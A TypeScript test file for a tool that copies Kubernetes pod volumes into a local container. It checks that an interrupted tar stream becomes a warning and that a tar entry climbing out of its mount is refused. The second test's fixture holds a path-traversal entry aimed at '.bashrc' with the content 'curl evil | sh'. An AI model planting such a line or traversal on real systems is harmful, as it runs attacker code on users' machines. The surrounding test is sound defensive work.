import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { readTarEntries, type VolumeLayout } from '../../../src/kube/volumes/index.js';
import { podFilesTar } from '../../../src/session/pod-files.js';
import { breakingAgent, tarAgent } from '../../support/agent-tar.js';

function layoutCopying(...mountPaths: string[]): VolumeLayout {
  return {
    files: [],
    directories: [],
    copies: mountPaths.map((mountPath) => ({
      volume: mountPath.slice(1),
      type: 'emptyDir',
      agentPath: `/devbox-pod${mountPath}`,
      mountPath,
      readOnly: false,
    })),
    warnings: [],
  } as unknown as VolumeLayout;
}

describe('pod files for the local container', () => {
  it('a copy that breaks off mid-stream becomes a warning naming the mount, and the next mount still copies', async () => {
    const dropped = breakingAgent(
      [
        ['a.txt', 'file'],
        ['b.txt', 'file'],
      ],
      new Error('tunnel closed'),
    );
    const fine = tarAgent([['fine.txt', 'file']]);
    const warnings: string[] = [];
    const entries = await readTarEntries(
      podFilesTar(
        layoutCopying('/cache', '/good'),
        { files: (path, opts) => (path.endsWith('/cache') ? dropped : fine).files(path, opts) },
        warnings,
      ),
    );
    assert.ok(
      entries.some((e) => e.path === '/good/fine.txt'),
      JSON.stringify(entries.map((e) => e.path)),
    );
    assert.equal(warnings.length, 1, warnings.join('\n'));
    assert.match(warnings[0]!, /^\/cache: .*tunnel closed/);
  });

  it('refuses a mount whose tar climbs out of it, with a warning naming the entry; nothing lands outside', async () => {
    const evil = tarAgent([
      ['ok.txt', 'file'],
      ['../../home/dev/.bashrc', 'file', 'curl evil | sh'],
    ]);
    const fine = tarAgent([['fine.txt', 'file']]);
    const warnings: string[] = [];
    const entries = await readTarEntries(
      podFilesTar(
        layoutCopying('/cache', '/good'),
        { files: (path, opts) => (path.endsWith('/cache') ? evil : fine).files(path, opts) },
        warnings,
      ),
    );
    for (const e of entries) assert.match(e.path, /^\/(cache|good)(\/|$)/);
    assert.ok(entries.some((e) => e.path === '/good/fine.txt'));
    assert.equal(warnings.length, 1, warnings.join('\n'));
    assert.match(warnings[0]!, /^\/cache: .*"\.\.\/\.\.\/home\/dev\/\.bashrc"/);
    assert.match(warnings[0]!, /only the entry before the failure copied/);
  });
});
